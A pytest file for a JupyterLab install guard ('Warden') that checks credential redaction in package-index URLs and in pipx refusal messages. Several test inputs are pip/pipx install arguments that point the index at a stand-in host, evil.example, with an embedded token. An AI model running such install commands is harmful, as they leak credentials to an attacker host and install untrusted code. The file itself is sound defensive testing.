"""Fix for red team 46b R46b-2/R46b-3: the one spelling of shown text (``redact_url``) keeps
no credential of a URL Warden cannot read (``https:u:TOKEN@host``, never shown raw) and masks
the token path segment of the known token-path hosts (Cloudsmith, Gemfury), as the shared
vectors schema/vectors/redact-url.json say (src/deps/request.spec.ts runs them too); a
confirmation of a masked finding still holds for the same command."""

import json
from pathlib import Path

import pytest
from confirmed_secret import confirmed_once_without_secret

from jupyterlab_warden.kernel.guard.installs.request import Source, redact_url

VECTORS = json.loads(
    (Path(__file__).parents[2] / "schema" / "vectors" / "redact-url.json").read_text()
)["vectors"]
TOKEN = "SECRETxyz0123456789"


@pytest.mark.parametrize("vector", VECTORS, ids=lambda v: v["text"])
def test_redact_url_vector(vector):
    assert redact_url(vector["text"]) == vector["shown"]


def test_a_confirmed_token_path_index_is_not_asked_again_and_no_event_holds_it():
    index = Source(f"https://dl.cloudsmith.io/{TOKEN}/acme/repo/python/simple/", "index", "-i")
    confirmed_once_without_secret(
        "pip", "pip install x", index, TOKEN, "dl.cloudsmith.io/***/acme", "our private index"
    )


@pytest.mark.parametrize(
    "args",
    [
        ["run", "--pip-args", f"-q --index-url https://u:{TOKEN}@evil.example/simple", "x"],
        ["install", "--index-url", f"--zzz=https://u:{TOKEN}@evil.example/simple", "x"],
        ["install", f"-qhttps:u:{TOKEN}@evil.example", "x"],
    ],
)
def test_a_pipx_refusal_quotes_no_credential(args):
    """R46b-1: every word a pipx_cli refusal quotes goes through redact_url (as pipxcli.ts)."""
    from jupyterlab_warden.kernel.guard.installs import pipx_cli

    line = pipx_cli.parse(args)
    assert isinstance(line, str) and TOKEN not in line, line
